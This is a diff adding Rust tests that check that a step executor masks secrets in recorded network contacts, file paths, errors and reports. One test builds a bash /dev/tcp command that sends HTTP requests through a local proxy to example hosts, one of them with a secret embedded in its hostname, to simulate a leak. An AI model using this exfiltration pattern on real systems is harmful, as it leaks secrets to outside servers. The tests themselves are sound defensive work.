@@ -1,4 +1,7 @@
-use sluicegate_ports::{execute::Ended, store::ContentStore};
+use sluicegate_ports::{
+    execute::{Destination, Egress, Ended, Network, Observation, OutputRole, StepExecutor, StepRequest},
+    store::ContentStore,
+};
 use sluicegate_types::Secret;
 
 use crate::fixture::*;
@@ -83,4 +86,62 @@ fn a_secret_is_in_no_file_of_the_run() {
     });
     assert_eq!(fixture().store.read(&outcome.unwrap().log, 99).unwrap(), b"***\n");
     assert_eq!(found, None);
+}
+
+#[test]
+fn servers_that_a_step_asks_for_are_told_without_its_secrets() {
+    let ask = |host| {
+        format!(
+            "exec 3<>/dev/tcp/127.0.0.1/3128; printf 'GET http://{host}/ HTTP/1.1\\r\\n\\r\\n' >&3; cat <&3; exec 3>&-;"
+        )
+    };
+    let mut request = program(&["bash", "-c", &[ask("S3CR3T-value.a.example"), ask("b.example")].concat()]);
+    let listed = Destination { host: "c.example".to_owned(), port: 80 };
+    request.network = Network::Allow(Egress { destinations: vec![listed], private: Vec::new() });
+    request.masked = vec![secret(b"S3CR3T-value")];
+    let (outcome, _) = run(&request);
+    let hosts: Vec<&str> = outcome.contacts.iter().map(|contact| contact.destination.host.as_str()).collect();
+    assert_eq!(hosts, ["***.a.example", "b.example"]);
+    let all = format!("{:?}", outcome.contacts).to_lowercase();
+    assert!(!all.contains("s3cr3t"), "{all}");
+}
+
+#[test]
+fn paths_that_are_observed_are_told_without_secrets() {
+    let mut request = sh("mkdir /work; : > /work/s3cr3t-value; : > /work/plain");
+    request.observe = true;
+    request.masked = vec![secret(b"s3cr3t-value")];
+    let Observation::Seen(trace) = run(&request).0.observed else { panic!("nothing was seen") };
+    assert!(["/work/***", "/work/plain"].iter().all(|path| trace.opened.iter().any(|opened| opened == path)));
+    assert!(!format!("{trace:?}").contains("s3cr3t"), "{trace:?}");
+}
+
+#[test]
+fn an_output_that_cannot_be_kept_is_told_without_secrets() {
+    // More folders below each other than an archive takes.
+    let mut request = sh(&format!("mkdir -p /out/s3cr3t-value{}", "/d".repeat(64)));
+    request.outputs = vec![output("o", "/out")];
+    let told = |request: &StepRequest| match StepExecutor::run_step(&fixture().executor, request, &mut |_| {}) {
+        Ok(outcome) => panic!("{outcome:?}"),
+        Err(error) => error.to_string(),
+    };
+    assert!(told(&request).contains("s3cr3t-value"), "it is about a path");
+    request.masked = vec![secret(b"s3cr3t-value")];
+    let error = told(&request);
+    assert!(error.contains("***") && !error.contains("s3cr3t"), "{error}");
+}
+
+#[test]
+fn a_report_with_a_secret_is_not_kept_and_an_output_is() {
+    let mut request =
+        sh("mkdir /out; for to in report file; do echo '<testcase name=\"s3cr3t&#45;value\"/>' > /out/$to; done");
+    request.outputs = vec![output("file", "/out/file"), output("report", "/out/report")];
+    request.outputs[1].role = OutputRole::Report;
+    let (outcome, _) = run(&request);
+    assert_eq!((outcome.outputs.len(), outcome.leaking.len()), (2, 0), "there is no secret");
+    request.masked = vec![secret(b"s3cr3t-value")];
+    let (outcome, _) = run(&request);
+    let kept: Vec<&str> = outcome.outputs.iter().map(|kept| kept.name.as_str()).collect();
+    let leaking: Vec<&str> = outcome.leaking.iter().map(|name| name.as_str()).collect();
+    assert_eq!((outcome.ended, kept, leaking), (Ended::Exit(0), vec!["file"], vec!["report"]));
 }
